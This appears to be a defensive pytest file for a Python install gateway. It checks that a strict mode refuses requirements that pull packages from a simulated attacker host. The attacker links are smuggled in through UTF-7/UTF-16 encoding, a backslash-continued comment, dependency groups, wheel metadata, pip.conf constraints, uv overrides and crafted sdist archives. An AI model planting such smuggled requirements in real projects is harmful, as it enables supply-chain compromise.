"""What leads past the indexes and hides: in an encoding, a group, a project or archive on this disk, an sdist."""

from __future__ import annotations

import io
import tarfile
from typing import TYPE_CHECKING

import pytest

from altindex_magic import request
from altindex_magic.errors import AltIndexError
from tests.attacks.stage import PRIVATE
from tests.packages import wheel
from tests.users import perform

if TYPE_CHECKING:
    from pathlib import Path


def _link(stage) -> str:
    """Write the requirement that the attacker smuggles in."""
    return f"{PRIVATE} @ {stage.attacker.origin}/files/{stage.evil(stage.attacker).name}"


def _attack(stage, monkeypatch, title, *arguments, tool="uv", **settings):
    """Let pip and uv install alone, then do as ``%altindex install`` does under strict, which has to refuse it."""
    monkeypatch.chdir(stage.working)
    assert stage.service
    alone = {name: ran.owned for name, ran in stage.alone(*arguments, **settings).items()}
    stage.environ.update(settings)
    reference, told = _refused(stage, *arguments, tool=tool)
    stage.record(title, alone, reference != "goes-round-the-gateway")
    assert any(alone.values())
    return told


def _refused(stage, *arguments, tool="uv") -> tuple[str, str]:
    """Install under strict and give the reference and the text of the error."""
    stage.open(strict=True)
    stage.attacker.api.asked.clear()
    try:
        perform(stage.service, request.Install(("--target", str(stage.folder / "strict"), *arguments), tool=tool))
    except AltIndexError as problem:
        return problem.reference, problem.what
    return "", ""


@pytest.mark.parametrize("encoding", ["utf-16", "utf-7"])
def test_a_requirements_file_in_another_encoding(stage, monkeypatch, encoding):
    """Installers go by the byte order mark, pip by a declaration as well (PEP 263)."""
    declared = f"# coding: {encoding}\n".encode() if encoding == "utf-7" else b""
    hidden = _link(stage).encode(encoding)
    if encoding == "utf-7":  # which leaves these signs as they are, but need not
        hidden = hidden.replace(b"@", b"+AEA-").replace(b"://", b"+ADoALwAv-")
    requirements = stage.working / "requirements.txt"
    requirements.write_bytes(declared + hidden)
    _attack(stage, monkeypatch, f"direct link in a requirements file in {encoding.upper()}", "-r", str(requirements))


def test_an_option_below_a_comment_that_seems_to_go_on(stage, monkeypatch):
    """To whoever joins lines before looking for comments it is part of one; installers take it."""
    stage.evil(stage.attacker)
    requirements = stage.working / "requirements.txt"
    requirements.write_text(f"# as in the handbook \\\n--index-url {stage.attacker.url}\n{PRIVATE}\n")
    title = "index option below a comment that ends in a backslash"
    _attack(stage, monkeypatch, title, "-r", str(requirements))


def test_a_dependency_group(stage, monkeypatch):
    """Of the project that one is in (PEP 735)."""
    project = stage.working / "pyproject.toml"
    project.write_text(f'[dependency-groups]\ndev = ["{_link(stage)}"]\n')
    told = _attack(stage, monkeypatch, "direct link in a dependency group", "--group", "dev")
    assert told.endswith("(in pyproject.toml) would take packages past the indexes in use.")


def test_a_wheel_on_this_disk(stage, monkeypatch):
    """That came with the project, and requires another from a URL; named without any slash."""
    wheel(stage.working, "innocent", "1.0", [_link(stage)])
    title = "direct link required by a wheel on this disk"
    told = _attack(stage, monkeypatch, title, "innocent-1.0-py3-none-any.whl")
    assert told.endswith("(in innocent-1.0-py3-none-any.whl) would take packages past the indexes in use.")


def test_a_constraint_that_the_configuration_of_pip_names(stage, monkeypatch):
    """Not in the line, and not in a variable."""
    constraints, configuration = stage.working / "constraints.txt", stage.working / "pip.conf"
    constraints.write_text(_link(stage))
    configuration.write_text(f"[install]\nconstraint = {constraints}\n")
    title = "direct link in a file that pip's configuration names"
    _attack(stage, monkeypatch, title, PRIVATE, tool="pip", PIP_CONFIG_FILE=str(configuration))


def test_an_override_in_the_file_of_a_project(stage, monkeypatch):
    """``[tool.uv]`` turns any requirement into a URL: strict does not read it, and without strict it is told of."""
    project = stage.working / "pyproject.toml"
    project.write_text(f'[tool.uv]\noverride-dependencies = ["{_link(stage)}"]\n')
    monkeypatch.chdir(stage.working)
    del stage.environ["UV_NO_CONFIG"]
    assert stage.service
    alone = stage.alone(PRIVATE)
    (used,) = [each for each in perform(stage.service, request.Use(("private",))) if hasattr(each, "around")]
    assert [setting.key for setting in used.around] == ["override-dependencies"]
    stage.open(strict=True)
    ours = any(ran.owned for ran in stage.ours(PRIVATE).values())
    stage.record("direct link in the overrides of a project's [tool.uv]", {"uv": alone["uv"].owned}, ours)
    assert alone["uv"].owned


_PROJECT = '[build-system]\nrequires = ["{}"]\nbuild-backend = "attacker"\n'
SDISTS = {
    "behind a link": [("acme_native-1.0/real.toml", ""), ("acme_native-1.0/pyproject.toml", "real.toml")],
    "without its folder": [("pyproject.toml", "")],
    "under a needless slash": [("acme_native-1.0/.//pyproject.toml", "")],
    "in TOML 1.1": [("acme_native-1.0/pyproject.toml", "")],
}
"""The members of an archive by name, and what one links to."""


@pytest.mark.parametrize("way", SDISTS)
def test_a_build_requirement_that_an_sdist_hides(stage, way):
    """Whatever an installer would find in it, strict finds as well: nothing is asked of the attacker's host."""
    project = _PROJECT.format(_link(stage)) + ("[tool.x]\na = {b = 1,\n c = 2}\n" if way == "in TOML 1.1" else "")
    _archive(stage.private.folder / "acme_native-1.0.tar.gz", SDISTS[way], project.encode())
    reference, _ = _refused(stage, "acme-native")
    stage.record(f"direct build requirement {way} of an sdist", {}, bool(stage.attacker.api.asked))
    assert reference == ("unexpected-answer" if way == "in TOML 1.1" else "direct-dependency")


def _archive(path: Path, members: list[tuple[str, str]], project: bytes) -> None:
    with tarfile.open(path, "w:gz") as archive:
        for name, target in members:
            member = tarfile.TarInfo(name)
            if target:
                member.type, member.linkname = tarfile.SYMTYPE, target
            else:
                member.size = len(project)
            archive.addfile(member, io.BytesIO(project))
